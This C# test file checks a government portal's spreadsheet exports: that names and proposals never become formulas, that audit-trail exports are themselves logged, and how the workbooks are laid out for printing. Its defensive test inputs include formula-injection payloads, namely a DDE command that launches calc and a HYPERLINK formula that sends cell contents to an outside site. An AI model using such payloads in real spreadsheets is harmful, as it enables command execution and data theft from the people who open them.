using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Microsoft.Extensions.DependencyInjection;
using Portal.Domain.Cases;
using Portal.Domain.Common;
using Portal.Tests.TestKit;
using Portal.Web.Documents;
using Portal.Web.Operations;
using Portal.Web.Operations.Audit;
using Portal.Web.Processes.Reviews;
using Portal.Web.Texts;
using Sheet = Portal.Web.Documents.Sheet;

namespace Portal.Tests.Web;

/// <summary>Files for a spreadsheet program: nothing that somebody wrote becomes a formula, and the trail goes out only as far as one sees
/// it.</summary>
public class ExportTests
{
    private const string Formula = "=HYPERLINK(\"http://ngoai.vn/?\"&A1,\"Bấm\")";

    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData(Formula)]
    public async Task A_name_that_looks_like_a_formula_stays_a_text_in_the_registers(string name)
    {
        await using var portal = await TestPortal.CreateAsync();
        var quoted = name.Replace("'", "''", StringComparison.Ordinal);
        await portal.DamageAsync($"UPDATE Staff SET FullName = '{quoted}', Position = '{quoted}' WHERE Id = 'S31'");
        await portal.DamageAsync($"UPDATE Areas SET Name = '{quoted}' WHERE Id = 'A017'");
        portal.Services.GetRequiredService<ReferenceCache>().Invalidate();
        foreach (var sheet in new[] { "staff", "areas", null })
        {
            AssertOnlyTexts((await portal.WorkbookAsync("S06", sheet)).ToArray(), name);
        }
    }

    [Fact]
    public async Task What_was_written_into_a_proposal_stays_a_text_in_the_sheets_of_the_dossier()
    {
        await using var portal = await TestPortal.CreateAsync();
        var cycle = await portal.CycleAsync("A017");
        await portal.PassedOnAsync(
            await portal.AreaCaseAsync(cycle), Reviews.Proposal(suggestions: Reviews.Suggestion() with { Matter = Formula }));
        var view = (await portal.Services.GetRequiredService<ReviewCycles>().DossierAsync(portal.Person(Reviews.Coordinator), cycle)).Value;
        var context = await portal.Operations.ContextAsync(portal.Person(Reviews.Coordinator));
        var documents = portal.Services.GetRequiredService<ReviewDocuments>();
        AssertOnlyTexts(documents.Make("ho-so.xlsx", view, context)!.Value.Content, Formula);
        AssertOnlyTexts(documents.Make("theo-doi.xlsx", view, context)!.Value.Content, "Kỳ kiểm điểm");
    }

    [Fact]
    public async Task The_trail_of_restricted_reading_is_taken_away_by_auditors_and_that_is_recorded_too()
    {
        await using var portal = await TestPortal.CreateAsync();
        await portal.Operations.RunAsync(portal.Person(Trips.Leader), o =>
        {
            o.Audit("Case.RestrictedRead", Formula);
            return Task.FromResult(Result.Ok);
        });
        await portal.NotifyAsync();
        var audit = portal.Services.GetRequiredService<AuditQueries>();
        var readings = new AuditFilter { Kind = AuditQueries.Readings };
        var rows = (await audit.ExportAsync(portal.Person(Trips.Head), readings)).Value;

        // The taking away is in the file itself: it was recorded first.
        Assert.Equal([("Audit.Exported", Trips.Head), ("Case.RestrictedRead", Trips.Leader)], rows.Select(r => (r.Act, r.PersonId)));
        Assert.Equal("Reading", rows[0].Details);
        var own = (await audit.ExportAsync(portal.Person(Trips.Member), new AuditFilter { PersonId = Trips.Leader })).Value;
        Assert.Equal([Trips.Member], own.Select(r => r.PersonId).Distinct());
        Assert.Equal([("Audit.Exported", Trips.Head)],
            (await audit.ExportAsync(portal.Person(Trips.Head),
                readings with
                {
                    PersonId = Trips.Head,
                    From = VietnamTime.DayOf(portal.Now),
                    To = VietnamTime.DayOf(portal.Now)
                })).Value.Skip(1).Select(r => (r.Act, r.PersonId)));

        var context = await portal.Operations.ContextAsync(portal.Person(Trips.Head));
        var (head, localizer) = (HeadOf(portal, context), portal.Services.GetRequiredService<Localizer>());
        var cells = AssertOnlyTexts(AuditSheet.Write(head, rows, context.Directory, localizer), Formula);
        Assert.Contains("Đọc nội dung hạn chế", cells);
        Assert.Contains("Hoàng Ánh Dương", cells);
        AssertOnlyTexts(AuditSheet.Write(head, [], context.Directory, localizer), "Thời điểm");
    }

    [Fact]
    public async Task A_workbook_is_printed_as_an_office_does_it()
    {
        await using var portal = await TestPortal.CreateAsync();
        var context = await portal.Operations.ContextAsync(portal.Person("S06"));
        SheetTable table = SheetTable.Of(
            "Gợi ý",
            Enumerable.Range(1, 60),
            new SheetColumn<int>("Địa bàn", i => $"Xã số {i}, {new string('a', 200)}"),
            new SheetColumn<int>("Số gợi ý", i => i, IsTotalled: true));
        var head = HeadOf(portal, context);
        using var document = SpreadsheetDocument.Open(new MemoryStream(Sheet.Of(head, table)), isEditable: false);
        Assert.Empty(new OpenXmlValidator(DocumentFormat.OpenXml.FileFormatVersions.Office2019).Validate(document)
            .Select(e => $"{e.Path?.XPath} {e.Description}"));
        var sheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet!;
        var rows = sheet.Descendants<Row>().Select(r => r.Elements<Cell>().Select(c => c.InnerText).ToList()).ToList();
        Assert.Equal(
            ["TỈNH ỦY LAM GIANG", "BAN TỔ CHỨC", "CÁN BỘ", "", "Lập ngày 05/10/2026"], rows.Take(5).Select(r => Assert.Single(r)));
        Assert.Equal(["TT", "Địa bàn", "Số gợi ý"], rows[Sheet.HeadingRow - 1]);
        Assert.Equal("1", rows[Sheet.HeadingRow][0]);
        Assert.Equal(["", "Tổng cộng", "1830"], rows[^1]);

        var setup = sheet.GetFirstChild<PageSetup>()!;
        Assert.Equal((OrientationValues.Landscape, 9u, 1u, 0u),
            (setup.Orientation!.Value, setup.PaperSize!.Value, setup.FitToWidth!.Value, setup.FitToHeight!.Value));
        Assert.True(sheet.GetFirstChild<SheetProperties>()!.PageSetupProperties!.FitToPage!.Value);
        Assert.Equal("'Gợi ý'!$6:$6", document.WorkbookPart.Workbook!.DefinedNames!.Elements<DefinedName>()
            .Single(n => n.Name == "_xlnm.Print_Titles").Text);
        var formats = document.WorkbookPart.WorkbookStylesPart!.Stylesheet!.CellFormats!.Elements<CellFormat>().ToList();
        Assert.All(sheet.Descendants<Row>().Skip(Sheet.HeadingRow - 1).SelectMany(r => r.Elements<Cell>()),
            c => Assert.True(formats[(int)c.StyleIndex!.Value].Alignment!.WrapText!.Value));
    }

    private static SheetHead HeadOf(TestPortal portal, CaseContext context) =>
        SheetHead.Of(context, portal.Services.GetRequiredService<TextCatalogue>(), "Cán bộ");

    /// <returns>All texts of the workbook.</returns>
    private static List<string> AssertOnlyTexts(byte[] workbook, string expected)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(workbook), isEditable: false);
        var cells = document.WorkbookPart!.WorksheetParts.SelectMany(s => s.Worksheet!.Descendants<Cell>()).ToList();
        var shared = document.WorkbookPart.SharedStringTablePart
            ?.SharedStringTable
            ?.Elements<SharedStringItem>()
            .Select(i => i.InnerText)
            .ToList() ?? [];
        Assert.NotEmpty(cells);
        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
        var texts = cells
            .Select(c => c.DataType?.Value == CellValues.SharedString
                ? shared[int.Parse(c.InnerText, System.Globalization.CultureInfo.InvariantCulture)]
                : c.InnerText)
            .ToList();
        Assert.Contains(texts, t => t.Contains(expected.Trim(), StringComparison.Ordinal));
        Assert.All(cells.Where(c => c.InnerText.Contains(expected.Trim(), StringComparison.Ordinal)),
            c => Assert.Contains(c.DataType!.Value, new[] { CellValues.String, CellValues.InlineString, CellValues.SharedString }));
        return texts;
    }
}
